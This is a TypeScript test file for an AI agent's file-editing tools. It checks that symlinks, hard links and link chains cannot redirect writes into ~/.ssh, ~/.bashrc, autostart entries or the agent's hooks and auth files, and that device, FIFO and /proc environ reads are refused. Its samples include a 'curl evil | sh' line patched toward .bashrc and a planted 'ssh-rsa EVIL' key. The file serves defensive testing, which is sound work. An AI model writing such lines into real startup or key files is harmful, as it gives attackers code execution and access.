// File tools against the holes found from outside: writes through links the agent made, the
// deny-list, reads of devices, FIFOs and /proc, unbounded reads, Latin-1 text.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, linkSync, mkdirSync, openSync, readFileSync, closeSync, ftruncateSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { writeDenied } from '../../src/policy/write-safety.ts';
import patch from '../../src/tools/defs/patch.ts';
import readFile from '../../src/tools/defs/read-file.ts';
import writeFile from '../../src/tools/defs/write-file.ts';
import { call, makeServices, tmp } from './helpers.ts';

/** Services whose HOME is a throwaway directory with a real-looking ~/.ssh and ~/.bashrc. */
function withHome() {
  const s = makeServices();
  const home = tmp('hermes-user-');
  s.env.HOME = home;
  mkdirSync(join(home, '.ssh'), { recursive: true });
  writeFileSync(join(home, '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAA me\n');
  writeFileSync(join(home, '.bashrc'), '# rc\n');
  return { s, home };
}

describe('write_file / patch resolve the real target first', () => {
  it('refuses a symlink the agent made to ~/.ssh/authorized_keys or ~/.bashrc', async () => {
    const { s, home } = withHome();
    symlinkSync(join(home, '.ssh', 'authorized_keys'), join(s.cwd, 'notes.txt'));
    symlinkSync(join(home, '.bashrc'), join(s.cwd, 'rc'));
    const r = await call(writeFile, { path: 'notes.txt', content: 'ssh-rsa EVIL\n' }, s);
    assert.match(r.json.error, /not allowed.*link to it/);
    const p = await call(patch, { path: 'rc', old_string: '# rc', new_string: 'curl evil | sh' }, s);
    assert.match(p.json.error, /not allowed/);
    assert.equal(readFileSync(join(home, '.ssh', 'authorized_keys'), 'utf8'), 'ssh-ed25519 AAAA me\n');
    assert.equal(readFileSync(join(home, '.bashrc'), 'utf8'), '# rc\n');
  });

  it('refuses a dangling symlink whose target would be created in a protected place, and chains of links', async () => {
    const { s, home } = withHome();
    symlinkSync(join(home, '.ssh', 'rc'), join(s.cwd, 'dangling'));
    symlinkSync(join(s.cwd, 'dangling'), join(s.cwd, 'chain'));
    symlinkSync(join(home, '.config', 'autostart', 'evil.desktop'), join(s.cwd, 'autostart-link'));
    for (const path of ['dangling', 'chain', 'autostart-link']) assert.match((await call(writeFile, { path, content: 'x' }, s)).json.error, /not allowed/, path);
    assert.ok(!existsSync(join(home, '.ssh', 'rc')));
    assert.ok(!existsSync(join(home, '.config', 'autostart')));
  });

  it('refuses a hard link to a protected file (same inode)', async () => {
    const { s, home } = withHome();
    try {
      linkSync(join(home, '.ssh', 'authorized_keys'), join(s.cwd, 'keys-copy'));
    } catch (e) {
      return console.log(`# skipping: cannot hard-link here (${(e as Error).message})`);
    }
    const r = await call(writeFile, { path: 'keys-copy', content: 'ssh-rsa EVIL\n' }, s);
    assert.match(r.json.error, /hard link to .*authorized_keys/);
    assert.equal(readFileSync(join(home, '.ssh', 'authorized_keys'), 'utf8'), 'ssh-ed25519 AAAA me\n');
    // An ordinary file with a second name is fine; under HERMES_WRITE_SAFE_ROOT it is not (it may live outside).
    writeFileSync(join(s.cwd, 'a.txt'), 'a');
    linkSync(join(s.cwd, 'a.txt'), join(s.cwd, 'b.txt'));
    assert.equal((await call(writeFile, { path: 'b.txt', content: 'b' }, s)).json.bytes_written, 1);
    s.env.HERMES_WRITE_SAFE_ROOT = s.cwd;
    assert.match((await call(writeFile, { path: 'b.txt', content: 'c' }, s)).json.error, /hard links/);
  });

  it('a symlink inside HERMES_WRITE_SAFE_ROOT cannot lead out of it', async () => {
    const { s } = withHome();
    const outside = tmp('hermes-outside-');
    symlinkSync(join(outside, 'target.txt'), join(s.cwd, 'inside-link'));
    s.env.HERMES_WRITE_SAFE_ROOT = s.cwd;
    assert.match((await call(writeFile, { path: 'inside-link', content: 'x' }, s)).json.error, /HERMES_WRITE_SAFE_ROOT/);
    assert.ok(!existsSync(join(outside, 'target.txt')));
  });

  it("protects HERMES_HOME's hooks, plugins, SOUL.md, auth.json and the new home files", () => {
    const home = tmp('hermes-user-');
    const hermesHome = tmp('hermes-home-');
    const ctx = { userHome: home, hermesHome };
    for (const p of [
      join(hermesHome, 'hooks', 'on-start', 'handler.py'),
      join(hermesHome, 'plugins', 'evil', '__init__.py'),
      join(hermesHome, 'SOUL.md'),
      join(hermesHome, 'auth.json'),
      join(hermesHome, 'mcp-tokens', 'github.json'),
      join(hermesHome, 'profiles', 'work', 'config.yaml'),
      join(home, '.hermes', 'config.yaml'),
      join(home, '.bash_aliases'),
      join(home, '.gitconfig'),
      join(home, '.config', 'autostart', 'x.desktop'),
      join(home, 'project', '.envrc'),
    ])
      assert.ok(writeDenied(p, ctx), p);
    for (const p of [join(hermesHome, 'skills', 'mine', 'SKILL.md'), join(hermesHome, 'memories', 'MEMORY.md'), join(home, '.config', 'nvim', 'init.lua'), join(home, 'project', 'hooks', 'x.sh')])
      assert.equal(writeDenied(p, ctx), null, p);
  });
});

describe('read_file refuses what is not a file, and bounds every read', () => {
  it('refuses /dev/zero, /dev/stdin-like devices, FIFOs and /proc/*/environ', async () => {
    const s = makeServices();
    assert.match((await call(readFile, { path: '/dev/zero' }, s)).json.error, /device/);
    assert.match((await call(readFile, { path: '/dev/urandom' }, s)).json.error, /device/);
    if (existsSync('/proc/self/environ')) {
      assert.match((await call(readFile, { path: '/proc/self/environ' }, s)).json.error, /environment/);
      assert.match((await call(readFile, { path: `/proc/${process.pid}/environ` }, s)).json.error, /environment/);
    }
    const fifo = join(s.cwd, 'pipe');
    if (spawnSync('mkfifo', [fifo]).status === 0) assert.match((await call(readFile, { path: 'pipe' }, s)).json.error, /FIFO/);
    // A link to a device is the device.
    symlinkSync('/dev/zero', join(s.cwd, 'zeros.txt'));
    assert.match((await call(readFile, { path: 'zeros.txt' }, s)).json.error, /device/);
  });

  it('reads a window of a huge sparse file without loading it', async () => {
    const s = makeServices();
    const big = join(s.cwd, 'big.log');
    writeFileSync(big, 'first line\n' + 'log line\n'.repeat(1200));
    const fd = openSync(big, 'r+');
    ftruncateSync(fd, 8 * 1024 * 1024 * 1024); // 8 GiB of NULs after the text: sparse, no disk used
    closeSync(fd);
    const before = process.memoryUsage().rss;
    const r = await call(readFile, { path: 'big.log', limit: 1 }, s);
    // (The NULs start past the 8 KiB the binary check samples.) The first line comes back at once.
    assert.equal(r.json.content, '1|first line');
    assert.match(String(r.json.total_lines), /^more than \d+$/);
    assert.ok(process.memoryUsage().rss - before < 200 * 1024 * 1024, 'memory stays bounded');
  });

  it('keeps a Latin-1 file Latin-1 through read → patch → write', async () => {
    const s = makeServices();
    const p = join(s.cwd, 'legacy.txt');
    writeFileSync(p, Buffer.from('Grüße aus Köln\nzweite Zeile\n', 'latin1'));
    const r = await call(readFile, { path: 'legacy.txt' }, s);
    assert.equal(r.json.encoding, 'latin-1');
    assert.equal(r.json.content, '1|Grüße aus Köln\n2|zweite Zeile');
    const e = await call(patch, { path: 'legacy.txt', old_string: 'zweite Zeile', new_string: 'dritte Zeile – ä' }, s);
    assert.equal(e.json.success, true);
    // The en dash has no Latin-1 byte: the file became UTF-8 rather than lose it.
    assert.equal(readFileSync(p, 'utf8'), 'Grüße aus Köln\ndritte Zeile – ä\n');
    writeFileSync(p, Buffer.from('café\n', 'latin1'));
    await call(readFile, { path: 'legacy.txt' }, s);
    const w = await call(writeFile, { path: 'legacy.txt', content: 'café crème\n' }, s);
    assert.equal(w.json.encoding, 'latin-1', w.raw);
    assert.deepEqual(readFileSync(p), Buffer.from('café crème\n', 'latin1'));
  });
});
